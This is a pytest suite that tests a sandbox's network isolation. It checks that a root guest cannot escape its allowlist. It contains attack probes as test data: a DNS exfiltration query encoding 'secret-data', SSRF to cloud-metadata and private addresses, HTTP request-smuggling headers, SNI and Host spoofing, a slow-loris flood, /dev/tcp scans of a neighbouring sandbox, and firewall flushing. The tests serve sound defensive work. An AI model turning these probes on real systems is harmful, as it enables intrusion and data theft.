"""The network: whatever a guest does as root, nothing goes where its policy does not let it go. A real
guest, a real server, and an outside of network namespaces with public addresses (tests/lib/netlab.py)."""

import contextlib
import json
import os
import pathlib
import struct
import tempfile

import netlab
import outside
import product
import pytest
from outside import GOOD, OTHER, RESOLVER, SHARED, attack, curl, dns, lines, policy, raw, root

LONG = os.environ.get("CAGED_LONG") == "1"  # a gigabyte twice: minutes under emulation
pytestmark = pytest.mark.skipif(os.getuid() != 0, reason="makes network namespaces")

@pytest.fixture
def stack():
    with contextlib.ExitStack() as stack:
        yield stack


@pytest.fixture(scope="module")
def box(server):
    s = server.create(memory_mb=256, disk_gb=1, allowlist=["good.example"])
    yield s
    s.destroy()


@pytest.mark.parametrize("mode, allow", [("none", []), ("allowlist", []), ("allowlist", ["good.example"])])
def test_dns_carries_nothing_out_of_what_is_denied(lab, box, mode, allow):
    policy(box, mode, allow)
    before = len(lines(lab.asked))
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 43, 48, 64, 65, 252, 255, 257, 65399):
        assert dns(box, "c2VjcmV0LWRhdGE.other.example", kind) == (3, 0), kind
    assert dns(box, "a" * 63 + "." + "b" * 63 + "." + "c" * 63 + ".example", 16) == (3, 0)
    assert dns(box, "x.good.example", 16, to="1.1.1.1") == (3, 0)
    assert dns(box, "other.example", 1, to="9.9.9.9") == (3, 0)
    assert lines(lab.asked)[before:] == []
    for port in (853, 443, 53):  # DoT, DoH by address; TCP 53 is the warden's own resolver
        assert not raw(box, "1.1.1.1", port, b"\0\x03abc")
    assert "tcp 853" not in lines(lab.arrived)


def test_none_leaves_nothing(lab, box):
    policy(box, "none")
    before = lines(lab.arrived)
    for address in (GOOD, OTHER, "1.1.1.1", netlab.HOST, "127.0.0.1", "172.30.0.1"):
        for port in (22, 80, 443, 8080):
            if (address, port) != ("127.0.0.1", 22):
                assert b"reached" not in raw(box, address, port, b"GET /host HTTP/1.1\r\nHost: good.example\r\n\r\n")
    assert {v for v, _ in attack(box, "vsock")} == {"held"}
    assert lines(lab.arrived) == before


def test_nothing_but_tcp_and_dns_leaves(lab, box):
    policy(box, "full")
    before = lines(lab.arrived)
    counted = box.server.api("GET", box.path + "/status")["network"]["dropped_packets"]
    sent = attack(box, "datagrams", GOOD, f"{GOOD}:443", f"{GOOD}:123", f"{GOOD}:5353")
    assert len(sent) == 13 and {v for v, _ in sent} == {"sent"}, sent
    assert "reached" in curl(box, f"http://{GOOD}/host")
    assert lines(lab.arrived) == before
    product.wait_for("drops are counted",
                     lambda: box.server.api("GET", box.path + "/status")["network"]["dropped_packets"] >= counted + len(sent), 30)
    product.wait_for("and recorded", lambda: [e for e in box.events("network") if e["data"]["event"] == "dropped"], 20)


def test_ipv6_is_absent(lab, box):
    policy(box, "allowlist", ["good.example"])
    root(box, "sysctl -w net.ipv6.conf.all.disable_ipv6=0 net.ipv6.conf.default.disable_ipv6=0 net.ipv6.conf.eth0.disable_ipv6=0; "
              "ip -6 addr add 2001:db8::2/64 dev eth0; ip -6 route add default via 2001:db8::1; ip link set eth0 down; ip link set eth0 up; true")
    tried = attack(box, "ipv6")
    assert len(tried) >= 10 and {v for v, _ in tried} == {"held"}, tried
    out = root(box, "curl -6 -sS -m 3 http://[2001:db8::1]/; curl -6 -sS -m 3 http://[::ffff:8.2.2.2]/host; "
                   "curl -6 -sS -m 3 http://[64:ff9b::8.2.2.2]/host; curl -6 -sS -m 3 http://good.example/host")
    assert "reached" not in out and "bytes from" not in out, out
    assert dns(box, "good.example", 28) == (0, 0)
    root(box, "ip addr add 172.30.0.2/30 dev eth0 2>/dev/null; ip link set eth0 up; ip route replace default via 172.30.0.1; true")
    assert "reached" in curl(box, "http://good.example/host")


@pytest.mark.parametrize("host", ["127.1", "0x7f000001", "0177.0.0.1", "2130706433", "[::ffff:127.0.0.1]", "[::1]", "[fe80::1%25eth0]",
                                  "good.example%00.other.example", "good.example@other.example", "other.example#good.example",
                                  "good.example\\@other.example", "good.example%0d%0aHost:other.example", "xn--gd-fkaa.example"])
def test_strange_names_and_addresses_open_nothing(box, host):
    policy(box, "allowlist", ["good.example"])
    assert "reached" not in curl(box, f"http://{host}/host")


def test_a_name_with_a_dot_behind_is_the_same_name(box):
    policy(box, "allowlist", ["good.example"])
    assert "reached" in curl(box, "http://GOOD.Example/host")
    assert "reached" not in curl(box, "http://other.example./host")


@pytest.mark.parametrize("mode", ["full", "allowlist"])
def test_names_that_lead_inside_lead_nowhere(box, mode):
    policy(box, mode, ["*.wild.example"] if mode == "allowlist" else [])
    for name in ("rebind", "meta", "private", "self", "gateway"):
        out = curl(box, f"http://{name}.wild.example/host")
        assert "resolve" in out, out
    for address in ("127.0.0.1", "169.254.169.254", "10.0.0.7", netlab.HOST, netlab.ROUTER, "172.30.0.1", "172.30.0.3", "172.30.1.1",
                    "192.168.0.1", "224.0.0.1", "255.255.255.255", "0.0.0.0", "100.100.100.200", "168.63.129.16"):
        out = curl(box, f"http://{address}:8080/host")
        assert "reached" not in out and "timed out" not in out, out


def test_where_the_packet_filter_rejects_is_in_the_record(box):
    policy(box, "full")
    for _ in range(3):
        assert "reached" not in curl(box, "http://10.44.0.7:8022/")
    def told():
        return sum(e["data"]["packets"] for e in box.events("network") if e["data"].get("address") == "10.44.0.7" and e["data"]["event"] == "rejected")
    product.wait_for("told with its address, and how often", lambda: told() == 3, 40)
    line = next(e for e in box.events("network") if e["data"]["event"] == "rejected" and e["data"]["address"] == "10.44.0.7")
    assert line["src"] == "host" and (line["data"]["port"], line["data"]["verdict"], line["data"]["rule"]) == (8022, "deny", "private 10.0.0.0/8")


def test_the_servers_own_port_is_not_reachable(box):
    policy(box, "full")
    port = box.server.url.rsplit(":", 1)[1]
    for address in ("127.0.0.1", "172.30.0.1", netlab.HOST, "host.caged.internal", "172.30.1.1", "gateway.caged.internal"):
        assert "caged" not in curl(box, f"http://{address}:{port}/health").replace("caged refused", "").replace(f"{address}", "")


def test_sandboxes_do_not_meet(server, box):
    """By address, by name, through the host, the gateway or a preview, on any port: a neighbour that listens hears nothing."""
    policy(box, "full")
    neighbour = server.create(memory_mb=256, disk_gb=1, name="neighbour")
    try:
        neighbour.run("mkdir -p /tmp/g && git init -q --bare /tmp/g/p.git && (git daemon --export-all --base-path=/tmp/g --verbose --listen=0.0.0.0 "
                      "/tmp/g >/tmp/heard 2>&1 &)")
        product.wait_for("it listens", lambda: neighbour.exec("git ls-remote git://127.0.0.1/p.git")["exit_code"] == 0, 60)
        def heard():
            return int(neighbour.run("grep -c 'Connection from' /tmp/heard"))
        before, info = heard(), neighbour.get()
        assert before > 0, "what it hears is counted"
        addresses = {info.get("ip") or "172.30.0.2", *(f"172.30.0.{n}" for n in range(9)), "172.30.1.1", "172.30.0.255", netlab.HOST, "127.0.0.1", "10.0.1.42"}
        names = {neighbour.id, "neighbour", f"{neighbour.id}.caged.internal", "gateway.caged.internal", "host.caged.internal", f"{neighbour.id}-9418.localhost",
                 f"{neighbour.id}-9418.preview.localhost"}
        ports = f"9418 22 53 80 443 2375 3000 5173 7878 8080 {server.url.rsplit(':', 1)[1]}"
        tries = [f"{p} 9418" for p in sorted(addresses | names)] + [f"{a} {p}" for a in ("172.30.0.1", "172.30.0.3", "172.30.1.1", netlab.HOST) for p in ports.split()]
        put(box, "/tmp/tries", "\n".join(tries) + "\n")
        out = root(box, "exec 2>/dev/null; while read -r a p; do (exec 3<>/dev/tcp/$a/$p && printf '0000hello\\r\\n\\r\\n' >&3 && read -t 10 -r x <&3 && "
                        "echo \"$a $p $x\") & done < /tmp/tries; wait", timeout_ms=300000)
        assert {line.split()[0] for line in out.split("\n") if line} <= {"172.30.1.1", "gateway.caged.internal"}, out  # the LLM gateway, which is the platform's
        attack(box, "frames")  # also to the broadcast address
        assert heard() == before
    finally:
        neighbour.destroy()


@pytest.mark.parametrize("rule, reached", [
    (f"{GOOD}/32:8080", {GOOD}), ("8.1.1.0/31:8080", {GOOD}), ("8.1.1.2/31:8080", set()), ("8.2.2.2/31:8080", {OTHER}), ("8.2.2.0/31:8080", set()),
    ("8.0.0.0/6:8080", {GOOD, OTHER, SHARED}), ("0.0.0.0/0:8080", {GOOD, OTHER, SHARED}), ("0.0.0.0/0", {GOOD, OTHER, SHARED}), ("8.3.3.0/24:80", set())])
def test_the_edges_of_a_network_are_where_they_are_written(box, rule, reached):
    policy(box, "allowlist", [rule])
    script = " ".join(f"(exec 3<>/dev/tcp/{a}/8080 && echo ping >&3 && read -t 10 -r x <&3 && [ \"$x\" = ping ] && echo through {a});"
                      for a in (GOOD, OTHER, SHARED, netlab.ROUTER, "10.0.0.7", netlab.HOST))
    out = root(box, f"exec 2>/dev/null; {script} true")
    assert {line.split()[1] for line in out.split("\n") if line.startswith("through ")} - {netlab.ROUTER} == reached, out
    assert netlab.HOST not in out and "10.0.0.7" not in out  # no rule of a sandbox opens what is inside


def test_a_name_that_turns_inside_after_its_first_answer_turns_nobody(lab, box):
    """Rebinding: the answer that was let through stays the answer while it is pinned, and no later one leads inside."""
    policy(box, "allowlist", ["*.wild.example"])
    assert "reached" in curl(box, "http://turns.wild.example/host")
    port = box.server.url.rsplit(":", 1)[1]
    policy(box, "allowlist", ["*.wild.example", f"*.wild.example:{port}"])
    for _ in range(3):
        out = curl(box, f"http://turns.wild.example:{port}/health") + curl(box, "http://turns.wild.example/host", "--resolve", "turns.wild.example:80:127.0.0.1")
        assert '"status"' not in out and "example reached" not in out, out
    assert "example reached" not in curl(box, "http://turned.wild.example/host")
    # a new sandbox has no pins: it asks, and hears that there is no such name
    assert dns(box, "turned.wild.example", 1) == (3, 0)


def test_sni_host_and_name_must_agree(lab, box):
    policy(box, "allowlist", ["a.shared.example", "good.example"])
    assert "reached" in curl(box, "https://a.shared.example/host")
    assert "reached" not in curl(box, "https://b.shared.example/host")
    # the address of an allowed name, asked for another
    assert "reached" not in curl(box, "https://b.shared.example/host", "--resolve", f"b.shared.example:443:{SHARED}")
    assert "reached" not in curl(box, "https://b.shared.example/host", "--connect-to", "::a.shared.example:443")
    assert "reached" not in curl(box, f"https://{SHARED}/host")  # no name at all
    # an allowed name at an address that it does not have: forged by /etc/hosts or by hand
    assert "reached" not in curl(box, "https://good.example/host", "--resolve", f"good.example:443:{SHARED}")
    root(box, f"echo '{OTHER} good.example' >> /etc/hosts")
    assert "reached" not in curl(box, "https://good.example/host")
    assert "reached" not in curl(box, "http://good.example/host")
    root(box, "sed -i '/good.example/d' /etc/hosts")
    assert "reached" in curl(box, "https://good.example/host")
    told = [e["data"] for e in box.events("network") if e["data"]["event"] == "open" and e["data"]["verdict"] == "deny"]
    assert {"TLS without a server name", "name was not resolved to this address", "mode allowlist"} <= {e["rule"] for e in told}


def put(box, path, text):
    box.server.call("PUT", box.path + f"/files/raw?path={path}", content=text.encode()).raise_for_status()


def hello(name, hidden=False):
    n = name.encode()
    extensions = struct.pack(">HHHBH", 0, len(n) + 5, len(n) + 3, 0, len(n)) + n
    extensions += struct.pack(">HH", 0xFE0D, 4) + bytes(4) if hidden else b""
    body = b"\3\3" + bytes(32) + b"\0\0\2\xc0\x2b\1\0" + struct.pack(">H", len(extensions)) + extensions
    return b"\1" + struct.pack(">I", len(body))[1:] + body


def records(data, size):
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(data[i:i + size])) + data[i:i + size] for i in range(0, len(data), size))


def test_hellos_in_pieces_hidden_and_huge(box):
    policy(box, "allowlist", ["a.shared.example:8443", "a.shared.example"])
    curl(box, "https://a.shared.example/host")  # so it is looked up
    good, bad = records(hello("a.shared.example"), 9999), records(hello("b.shared.example"), 9999)
    small = records(hello("b.shared.example"), 7)
    assert raw(box, SHARED, 8443, good) == good
    assert raw(box, SHARED, 8443, records(hello("a.shared.example"), 7)) == records(hello("a.shared.example"), 7)
    assert raw(box, SHARED, 443, good[:20], good[20:])  # the TLS server answers with an alert
    for parts in ([bad], [bad[:30], bad[30:]], [small], [small[:3], small[3:]], [records(hello("a.shared.example", True), 9999)],
                  [b"\x16\3\1\x40\x00\1\0\xff\xff" + bytes(16384)]):
        assert not raw(box, SHARED, 8443, *parts), parts
    assert b"HTTP/1.1 200" not in raw(box, SHARED, 443, b"GET / HTTP/1.0\r\n\r\n")
    assert not raw(box, SHARED, 443, b"SSH-2.0-x\r\n")
    assert not raw(box, SHARED, 443, b"")


def test_who_says_what_it_wants_for_ever_is_cut_and_holds_nobody_up(box):
    """Slow-loris: two hundred connections that never end their hello or their head."""
    policy(box, "allowlist", ["good.example"])
    curl(box, "http://good.example/host")  # so it is looked up
    root(box, "rm -f /tmp/slow; (trap '' PIPE; exec 2>/dev/null; ulimit -n 4096; a=(); for i in $(seq 100); do "
              f"exec {{fd}}<>/dev/tcp/{GOOD}/80 && printf 'GET /' >&$fd && a+=($fd); exec {{fd}}<>/dev/tcp/{GOOD}/443 && "
              "printf '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03' >&$fd && a+=($fd); done; echo all ${#a[@]} > /tmp/slow; until [ -e /tmp/on ]; do sleep 0.2; done; "
              "while [ ${#a[@]} -gt 0 ]; do for i in ${!a[@]}; do printf x >&${a[i]} || unset \"a[i]\"; done; echo left ${#a[@]} > /tmp/slow; sleep 0.5; done) "
              ">/dev/null 2>&1 &")
    product.wait_for("they are open", lambda: root(box, "cat /tmp/slow 2>/dev/null").strip() == "all 200", 60)
    assert "reached" in curl(box, "http://good.example/host") and "reached" in curl(box, "https://good.example/host")
    root(box, "touch /tmp/on")
    product.wait_for("all are cut", lambda: root(box, "cat /tmp/slow").strip() == "left 0", 120)
    assert "reached" in curl(box, "https://good.example/host")


def test_plain_http_cannot_be_turned_to_another_host(box):
    policy(box, "allowlist", ["a.shared.example"])
    assert "reached" in curl(box, "http://a.shared.example/host")

    def said(*heads):
        return raw(box, SHARED, 80, b"".join(h.replace("\n", "\r\n").encode() + b"\r\n\r\n" for h in heads))

    good = "GET /host HTTP/1.1\nHost: a.shared.example"
    assert said(good, good).count(b"a.shared.example reached") == 2
    for heads in (["GET /host HTTP/1.1\nHost: b.shared.example"], [good, "GET /host HTTP/1.1\nHost: b.shared.example"],
                  ["GET /host HTTP/1.1\nHost: a.shared.example\nHost: b.shared.example"], ["GET http://b.shared.example/host HTTP/1.1\nHost: a.shared.example"],
                  ["GET /host HTTP/1.1\nHost: a.shared.example\n Host: b.shared.example"], ["GET /host HTTP/1.1"], ["GET /host HTTP/1.0"],
                  ["CONNECT b.shared.example:80 HTTP/1.1\nHost: a.shared.example", "GET /host HTTP/1.1\nHost: b.shared.example"],
                  ["POST /host HTTP/1.1\nHost: a.shared.example\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0", "GET /host HTTP/1.1\nHost: b.shared.example"],
                  ["POST /host HTTP/1.1\nHost: a.shared.example\nContent-Length: 0\nContent-Length: 60", "GET /host HTTP/1.1\nHost: b.shared.example"],
                  ["GET /host HTTP/1.1\nHost: a.shared.example\nUpgrade: h2c\nConnection: Upgrade", "GET /host HTTP/1.1\nHost: b.shared.example"]):
        assert b"b.shared.example reached" not in said(*heads), heads
    page = said("GET /host HTTP/1.1\nHost: b.shared.example").decode()
    assert "403" in page and "Rule: mode allowlist" in page and f"caged network {box.id} allow b.shared.example" in page


def test_what_the_guest_does_to_its_own_network_changes_nothing(lab, box):
    """Forged frames: another source address, another MAC, a VLAN tag, IPv6, a made-up protocol; and rules of its own."""
    policy(box, "allowlist", ["good.example"])
    before = lines(lab.arrived)
    dropped = box.server.api("GET", box.path + "/status")["network"]["dropped_packets"]
    root(box, "nft flush ruleset 2>/dev/null; iptables -F 2>/dev/null; true")
    sent = attack(box, "frames")
    assert len(sent) == 11 and {v for v, _ in sent} == {"sent"}, sent
    product.wait_for("all are dropped and counted", lambda: box.server.api("GET", box.path + "/status")["network"]["dropped_packets"] >= dropped + len(sent), 30)
    assert "reached" not in curl(box, f"http://{OTHER}/host")
    assert "reached" in curl(box, "http://good.example/host")
    assert lines(lab.arrived) == before


def test_proxy_variables_are_no_door(box):
    policy(box, "allowlist", ["good.example"])
    out = root(box, f"unset http_proxy https_proxy; http_proxy=http://{OTHER}:8080 curl -sS -m 5 http://other.example/host; "
                    f"ALL_PROXY=socks5h://{OTHER}:8080 curl -sS -m 5 http://good.example/host 2>&1")
    assert "reached" not in out


def test_a_change_cuts_what_is_open(box):
    policy(box, "full")
    root(box, f"(exec 3<>/dev/tcp/{GOOD}/8080; sleep 60 & cat <&3 >/dev/null; echo cut > /tmp/cut) >/dev/null 2>&1 & "
              f"(exec 3<>/dev/tcp/{GOOD}/443; cat <&3 >/dev/null; echo cut > /tmp/cut2) >/dev/null 2>&1 & sleep 1", detach=False)
    assert root(box, "ls /tmp/cut 2>/dev/null").strip() == ""
    policy(box, "none")
    product.wait_for("both are cut", lambda: root(box, "cat /tmp/cut /tmp/cut2 2>/dev/null").split() == ["cut", "cut"], 20)

    def told():  # the one that had not said its name yet is refused, the other one cut
        after = [e["data"] for e in box.events("network")]
        after = after[max(i for i, d in enumerate(after) if d["event"] == "policy"):]
        return [d["reason"] for d in after if d["event"] == "close"][:1], [d["port"] for d in after if d.get("verdict") == "deny"]

    product.wait_for("both ends are told", lambda: told()[0] == ["policy"] and 443 in told()[1], 20)
    assert "reached" not in curl(box, "http://good.example/host")


def test_the_attack_verb_finds_every_wall_held_and_leaves_nothing(lab, box):
    policy(box, "allowlist", ["good.example"])
    before, arrived = len(lines(lab.asked)), lines(lab.arrived)
    done = box.server.cli("attack", box.id, "--json", check=False)
    report = json.loads(done.stdout)
    assert done.returncode == 0 and report["open"] == 0, [row["told"] for row in report["classes"] if row["open"]]
    rows = {row["class"]: row for row in report["classes"]}
    assert set(rows) == {"dns", "names", "hello", "addresses", "doors", "ipv6", "datagrams", "frames", "vsock", "gateway", "values"}
    for name, row in rows.items():
        assert row["held"] >= 4 and row["skipped"] == 0, (name, row)
    assert {line.split()[1] for line in lines(lab.asked)[before:]} == {"good.example"} and lines(lab.arrived) == arrived
    assert [s["id"] for s in box.server.api("GET", "/v1/sandboxes")] == [box.id]
    assert not [s for s in box.server.api("GET", "/v1/secrets") if s["name"].startswith("CAGED_ATTACK")]


def test_the_attack_verb_tells_a_door_that_is_open(lab):
    with product.Server(outside.calm() + "network:\n  allow: ['127.0.0.1/32']\n") as server:
        box = server.create(memory_mb=256, disk_gb=1, network_mode="none")
        done = server.cli("attack", box.id, "--only", "doors", check=False)
        assert done.returncode == 0 and "host.caged.internal" not in done.stdout, done.stdout  # none is none
        policy(box, "full")
        done = server.cli("attack", box.id, "--only", "doors", check=False)
        assert done.returncode == 1, done.stdout
        assert "! a connection to 127.0.0.1:" in done.stdout and "got through" in done.stdout
        assert "network.allow" in done.stderr


# --- what must work ---

def test_clients_go_through_an_allowlist(box):
    policy(box, "allowlist", ["good.example"])
    assert "good.example reached" in curl(box, "http://good.example/host")
    assert "good.example reached" in curl(box, "https://good.example/host")
    assert box.run("cd /tmp && rm -rf p && git clone -q http://good.example/p.git p && cat p/a.txt") == "over http"
    assert box.run("cd /tmp && rm -rf p && git -c http.sslVerify=false clone -q https://good.example/p.git p && cat p/a.txt") == "over http"
    frame = b"\x81\x85\1\2\3\4" + bytes(b ^ (1 + i % 4) for i, b in enumerate(b"hello"))
    upgrade = (b"GET /ws HTTP/1.1\r\nHost: good.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
               b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
    answer = raw(box, GOOD, 80, upgrade, frame)
    assert b"101 Switching" in answer and answer.endswith(b"\x81\x05hello")


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_large_download_arrives_whole_and_is_counted(box, scheme):
    policy(box, "allowlist", ["good.example"])
    size = (1 << 30) if LONG else (64 << 20)
    before = box.server.api("GET", box.path + "/status")["network"]["bytes_in"]
    out = root(box, f"curl -sS -k -m 900 {scheme}://good.example/big/{size} | wc -c", timeout_ms=1000000)
    assert out.strip() == str(size), out
    closed = product.wait_for("its end is recorded", lambda: [
        e["data"] for e in box.events("network") if e["data"]["event"] == "close" and e["data"]["bytes_in"] >= size], 20)[-1]
    assert closed["duration_ms"] > 0 and closed["name"] == "good.example" and closed["protocol"] == ("http" if scheme == "http" else "tls")
    assert box.server.api("GET", box.path + "/status")["network"]["bytes_in"] >= before


def test_what_leaves_for_an_allowed_host_is_counted(box):
    """A host that is allowed is a place to put things: how much went there is on record, exactly."""
    policy(box, "allowlist", ["good.example:8080"])
    size = 3_000_000
    out = root(box, f"exec 3<>/dev/tcp/good.example/8080; (head -c {size} <&3 | wc -c) & head -c {size} /dev/zero >&3; wait")
    assert out.strip() == str(size), out
    closed = product.wait_for("its end is recorded", lambda: [
        e["data"] for e in box.events("network") if e["data"]["event"] == "close" and e["data"].get("bytes_out") == size], 20)[-1]
    opened = next(e["data"] for e in box.events("network") if e["data"]["event"] == "open" and e["data"]["conn"] == closed["conn"])
    assert (opened["name"], opened["port"], closed["bytes_in"]) == ("good.example", 8080, size)


def test_the_record_names_the_process_of_a_connection_and_of_a_lookup(box):
    policy(box, "allowlist", ["good.example"])
    assert "reached" in curl(box, "http://good.example/host")
    assert "reached" not in curl(box, f"http://{OTHER}/host")
    def joined():
        """Connections that both sides told, by their number: what the host saw, whose the guest says it was."""
        network = [e for e in box.events("network")]
        opened = {e["data"]["conn"]: e["data"] for e in network if e["data"]["event"] == "open"}
        said = [e for e in network if e["data"]["event"] == "connect" and e["data"].get("conn") in opened]
        return {(opened[e["data"]["conn"]]["address"], opened[e["data"]["conn"]]["verdict"], e["data"]["comm"], e["src"]) for e in said}
    product.wait_for("both are joined", lambda: {(GOOD, "allow", "curl", "guest"), (OTHER, "deny", "curl", "guest")} <= joined(), 30)
    # one that lasts until the agent's word is there
    policy(box, "allowlist", ["good.example", "good.example:8080"])
    root(box, f"rm -f /tmp/go; (exec 3<>/dev/tcp/{GOOD}/8080; until [ -e /tmp/go ]; do sleep 0.2; done) >/dev/null 2>&1 &")
    product.wait_for("it is joined", lambda: (GOOD, "allow", "bash", "guest") in joined(), 30)
    root(box, "touch /tmp/go")
    named = product.wait_for("its end names the process", lambda: [
        e["data"] for e in box.events("network") if e["data"]["event"] == "close" and e["data"].get("process") == "bash"], 30)
    assert named[0]["pid"] > 0
    asked = {e["data"].get("lookup"): e["data"] for e in box.events("dns")}
    said = [e["data"] for e in box.events("network") if e["data"].get("lookup")]
    assert [s for s in said if asked[s["lookup"]]["name"] == "good.example"] or [a for a in asked.values() if a.get("process")], said


def test_five_hundred_connections_at_once(box):
    policy(box, "allowlist", ["good.example:8080"])
    curl(box, "http://good.example/host")
    out = root(box, "ulimit -n 4096; n=0; fds=(); for i in $(seq 500); do if exec {fd}<>/dev/tcp/good.example/8080; then fds+=($fd); fi; done; "
                    "for fd in ${fds[@]}; do echo ping >&$fd; done; for fd in ${fds[@]}; do read -t 20 line <&$fd; [ \"$line\" = ping ] && n=$((n+1)); done; echo $n")
    assert out.strip().split("\n")[-1] == "500", out


def test_the_registries_of_the_template_are_reached_by_their_preset(lab, stack):
    """An image that says where its packages come from: that host, at that port, and nothing else of it."""
    ours = pathlib.Path(product.default_images())
    images = pathlib.Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="caged-t-images-")))
    images.chmod(0o755)
    (images / "templates").mkdir()
    for name in ("boot.json", "kernels", "initramfs", "writable", "templates/minimal"):
        (images / name).symlink_to(ours / name)
    text = json.loads((ours / "templates" / "minimal.json").read_text())
    (images / "templates" / "minimal.json").write_text(json.dumps({**text, "registries": ["good.example:80", "c:*", "*.shared.example:80", 7]}))
    with product.Server(outside.calm() + f"network:\n  resolvers: [{RESOLVER}]\n", env={"CAGED_IMAGE_DIR": str(images)}) as server:
        box = server.create(memory_mb=256, disk_gb=1, network={"mode": "allowlist", "allow": ["registries"]})
        assert "good.example:80" in server.api("GET", box.path + "/network")["registries"]
        assert "good.example reached" in curl(box, "http://good.example/host")
        assert "reached" not in curl(box, "https://good.example/host") and "reached" not in curl(box, "http://other.example/host")
        policy(box, "allowlist", ["other.example"])  # the same list on the way of a change
        assert "reached" not in curl(box, "http://good.example/host")
        said = server.cli("network", box.id, "allow", "registries").stdout
        assert "good.example:80" in next(line for line in said.split("\n") if line.startswith("Registries")), said
        assert "good.example reached" in curl(box, "http://good.example/host")


def test_the_policy_outlives_server_and_pause(server):
    box = server.create(memory_mb=256, disk_gb=1, allowlist=["good.example"], denylist=["x.good.example"])
    try:
        server.cli("network", box.id, "allow", "*.shared.example")
        server.kill()
        server.start()
        product.wait_for("connected again", lambda: box.exec("true")["exit_code"] == 0, 30)
        info = server.api("GET", box.path)
        assert (info["network_mode"], info["allowlist"], info["denylist"]) == ("allowlist", ["good.example", "*.shared.example"], ["x.good.example"])
        assert "reached" in curl(box, "http://a.shared.example/host")
        server.api("POST", box.path + "/pause")
        changed = server.api("PATCH", box.path + "/network", {"remove": ["good.example"]})
        assert changed["allow"] == ["*.shared.example"]
        server.api("POST", box.path + "/resume")
        assert "reached" in curl(box, "http://a.shared.example/host")
        assert "reached" not in curl(box, "http://good.example/host")
        child = server.api("POST", box.path + "/fork", {})
        child = child[0] if isinstance(child, list) else child
        assert server.api("GET", f"/v1/sandboxes/{child.get('id') or child['sandboxes'][0]['id']}/network")["allow"] == ["*.shared.example"]
    finally:
        box.destroy()
